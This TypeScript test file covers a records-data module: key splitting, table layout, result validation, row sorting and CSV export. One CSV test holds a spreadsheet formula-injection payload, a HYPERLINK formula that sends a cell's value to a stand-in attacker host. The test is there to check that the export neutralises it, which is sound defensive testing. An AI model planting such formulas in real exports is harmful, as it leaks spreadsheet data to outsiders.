import { describe, expect, it } from "vitest";
import { csvField, isRecordsResult, recordsTable, sortRows, splitKeys, toCsv, type RecordsResult } from "./records-data.ts";

describe("splitKeys", () => {
  it("splits keys of several groupBy fields (JSON arrays of one length) into their values", () => {
    expect(splitKeys(['["Books","2025-03"]', '["Toys & Games","2025-04"]'])).toEqual([
      ["Books", "2025-03"],
      ["Toys & Games", "2025-04"],
    ]);
    expect(splitKeys(['["US",3]', '["BR",null]'])).toEqual([
      ["US", "3"],
      ["BR", "null"],
    ]);
  });

  it("keeps each key whole when one field was grouped by, or when the keys are not all alike", () => {
    expect(splitKeys(["Books", "Toys"])).toEqual([["Books"], ["Toys"]]);
    expect(splitKeys(['["a","b"]', "plain"])).toEqual([['["a","b"]'], ["plain"]]);
    expect(splitKeys(['["a","b"]', '["a","b","c"]'])).toEqual([['["a","b"]'], ['["a","b","c"]']]);
    expect(splitKeys(['["only"]'])).toEqual([['["only"]']]);
    expect(splitKeys(["[not json"])).toEqual([["[not json"]]);
    expect(splitKeys([""])).toEqual([[""]]);
    expect(splitKeys([])).toEqual([]);
  });
});

describe("recordsTable", () => {
  it("lays out key columns then one column per metric, rows in natural key order", () => {
    const result: RecordsResult = {
      groups: { "2025-10": { orders: 3, revenue: 30 }, "2025-9": { orders: 1, revenue: 5 }, "2025-1": { orders: 2, revenue: 7 } },
      records: 9,
      skipped: 1,
    };
    expect(recordsTable(result)).toEqual({
      columns: [
        { label: "group", kind: "key" },
        { label: "orders", kind: "metric" },
        { label: "revenue", kind: "metric" },
      ],
      rows: [
        ["2025-1", 2, 7],
        ["2025-9", 1, 5],
        ["2025-10", 3, 30],
      ],
    });
  });

  it("gives several groupBy fields a column each", () => {
    const table = recordsTable({ groups: { '["Books","US"]': { n: 1 }, '["Books","BR"]': { n: 2 } }, records: 3, skipped: 0 });
    expect(table.columns.map((c) => c.label)).toEqual(["group 1", "group 2", "n"]);
    expect(table.rows).toEqual([
      ["Books", "BR", 2],
      ["Books", "US", 1],
    ]);
  });

  it("refuses a result that is not a records table, and takes one with fields it does not know", () => {
    for (const result of [
      { count: 3 },
      null,
      [],
      "groups",
      { groups: { a: { n: "3" } }, records: 1, skipped: 0 },
      { groups: { a: [1] }, records: 1, skipped: 0 },
      { groups: { a: null }, records: 1, skipped: 0 },
      { groups: [], records: 1, skipped: 0 },
      { groups: {}, records: "1", skipped: 0 },
      { groups: {}, records: 1 },
    ]) {
      expect(isRecordsResult(result), JSON.stringify(result)).toBe(false);
    }
    expect(isRecordsResult({ groups: { a: { n: 1 } }, records: 1, skipped: 0, truncated: true })).toBe(true);
    expect(isRecordsResult({ groups: {}, records: 0, skipped: 0 })).toBe(true);
  });
});

describe("sortRows", () => {
  const rows = [
    ["b", 10],
    ["a10", 2],
    ["a9", 30],
    ["c", undefined],
  ];

  it("sorts metrics by value and text in natural order, either way, empty cells last", () => {
    expect(sortRows(rows, 1, "ascending").map((r) => r[0])).toEqual(["a10", "b", "a9", "c"]);
    expect(sortRows(rows, 1, "descending").map((r) => r[0])).toEqual(["a9", "b", "a10", "c"]);
    expect(sortRows(rows, 0, "ascending").map((r) => r[0])).toEqual(["a9", "a10", "b", "c"]);
    expect(sortRows(rows, 0, "descending").map((r) => r[0])).toEqual(["c", "b", "a10", "a9"]);
  });

  it("keeps ties in their order and leaves the input alone", () => {
    const tied = [
      ["x", 1],
      ["y", 1],
      ["z", 0],
    ];
    expect(sortRows(tied, 1, "descending")).toEqual([
      ["x", 1],
      ["y", 1],
      ["z", 0],
    ]);
    expect(tied.map((r) => r[0])).toEqual(["x", "y", "z"]);
  });
});

describe("CSV", () => {
  it("quotes only fields holding a comma, a quote or a line break, doubling quotes", () => {
    expect(csvField("Books")).toBe("Books");
    expect(csvField(12.5)).toBe("12.5");
    expect(csvField(undefined)).toBe("");
    expect(csvField("Mug, ceramic")).toBe('"Mug, ceramic"');
    // A spreadsheet would run these: they go in as text, numbers stay numbers.
    expect(csvField('=HYPERLINK("https://evil.example/?d="&B2,"open")')).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""open"")"');
    for (const lead of ["+1", "-1", "@SUM(A1)", "\tx"]) expect(csvField(lead)).toBe(`'${lead}`);
    expect(csvField(-12.5)).toBe("-12.5");
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
  });

  it("writes a header line and one line per row, each ended by CRLF", () => {
    const csv = toCsv({
      columns: [
        { label: "group", kind: "key" },
        { label: "revenue, paid", kind: "metric" },
      ],
      rows: [
        ["Home & Kitchen", 1200],
        ['The "best"', 5],
      ],
    });
    expect(csv).toBe('group,"revenue, paid"\r\nHome & Kitchen,1200\r\n"The ""best""",5\r\n');
  });
});
